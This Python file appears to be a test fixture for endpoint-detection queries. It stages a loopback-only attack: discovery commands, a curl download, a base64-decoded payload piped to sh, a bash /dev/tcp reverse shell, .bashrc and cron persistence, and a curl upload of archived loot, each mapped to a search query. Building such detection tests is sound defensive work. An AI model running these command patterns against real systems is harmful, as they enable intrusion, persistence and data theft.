"""A scripted attack on the loopback interface, and where each step of it is to be found."""

import base64
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

_SCRIPT = """
cd "$HOME" || exit 9
id; uname -a; cat /etc/passwd > /dev/null
curl -s -o drop/tool "http://127.0.0.1:$WEB/tool" && chmod +x drop/tool
drop/tool --beacon
echo "$ENCODED" | base64 -d | sh
bash -c "bash -i >& /dev/tcp/127.0.0.1/$SHELL_PORT 0>&1" || true
echo "drop/tool &" >> .bashrc
mkdir -p cron && echo "* * * * * $HOME/drop/tool" > cron/job
tar czf drop/loot.tgz .bashrc cron 2>/dev/null
curl -s -T drop/loot.tgz "http://127.0.0.1:$WEB/upload/loot.tgz"
rm -f drop/loot.tgz drop/tool
exit 0
"""


@dataclass(frozen=True)
class Attack:
    """The script, its variables, and a query by step that has to find it."""

    script: str
    variables: dict[str, str]
    steps: dict[str, str]


class _Web(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        tool = Path("/bin/true").read_bytes()
        self.send_response(200)
        self.send_header("Content-Length", str(len(tool)))
        self.end_headers()
        self.wfile.write(tool)

    def do_PUT(self) -> None:
        if self.headers.get("Expect"):
            self.send_response_only(100)
            self.end_headers()
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Silent."""


@contextmanager
def attack(home: Path) -> Iterator[Attack]:
    """The attacker's servers run until the end; `home` is the victim's folder."""
    web = ThreadingHTTPServer(("127.0.0.1", 0), _Web)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=_command_shell, args=(listener,), daemon=True).start()
    (home / "drop").mkdir()
    (home / "drop").chmod(0o777)
    ports = web.server_port, listener.getsockname()[1]
    try:
        yield _described(home, *ports)
    finally:
        web.shutdown()
        web.server_close()
        listener.close()


def _command_shell(listener: socket.socket) -> None:
    """The attacker's end of the reverse shell: one command, then it closes."""
    peer, _ = listener.accept()
    with peer:
        peer.settimeout(20)
        peer.sendall(b"uname -r\nexit\n")
        while peer.recv(4096):
            pass


def _described(home: Path, web: int, shell: int) -> Attack:
    hidden = base64.b64encode(b"hostname; echo hidden-payload > /dev/null\n").decode()
    tool = f"{home}/drop/tool"
    return Attack(
        _SCRIPT,
        {"WEB": str(web), "SHELL_PORT": str(shell), "ENCODED": hidden},
        {
            "discovery of the user": "process_name:id",
            "discovery of the system": 'process_name:uname cmdline:"-a"',
            "discovery of accounts": 'process_name:cat cmdline:"/etc/passwd"',
            "download": f"process_name:curl ipaddr:127.0.0.1 ipport:{web} filemod:{tool}",
            "program from a temporary folder": f'path:{tool} cmdline:"--beacon"',
            "decoding": 'process_name:base64 cmdline:"-d"',
            "the decoded shell": "parent_name:bash process_name:dash",
            "what the decoded script ran": "process_name:hostname parent_name:dash",
            "reverse shell": f"process_name:bash ipaddr:127.0.0.1 ipport:{shell}",
            "command through the reverse shell": 'process_name:uname cmdline:"-r"',
            "persistence in a profile": f"filemod:{home}/.bashrc",
            "persistence in a schedule": f"filemod:{home}/cron/job",
            "archiving": 'process_name:tar cmdline:"loot.tgz"',
            "archive": f"filemod:{home}/drop/loot.tgz",
            "upload": 'process_name:curl cmdline:"-T" cmdline:"loot.tgz"',
            "clean-up": f"process_name:rm filemod:{tool}",
        },
    )
